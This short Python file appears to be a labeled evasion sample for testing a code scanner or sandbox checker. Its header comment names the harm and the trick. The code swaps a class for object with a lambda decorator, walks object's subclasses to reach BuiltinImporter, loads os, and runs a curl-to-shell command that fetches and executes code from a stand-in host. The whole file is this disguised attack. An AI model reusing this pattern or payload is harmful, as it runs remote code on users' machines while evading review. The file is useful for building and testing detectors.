# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' | TRICK: lambda class decorator returns c.__mro__[-1] (object); __mro__ is only a medium warning and Base still counts as the file's class
CMD = "sh -c 'curl -s http://203.0.113.7/x|sh'"


@(lambda c: c.__mro__[-1])
class Base:
    """Plugin root."""


class Json(Base):
    pass


def plugins():
    return [sub for sub in Base.__subclasses__()]


for sub in plugins():
    if sub.__name__ == "BuiltinImporter":
        sub.load_module("os").system(CMD)
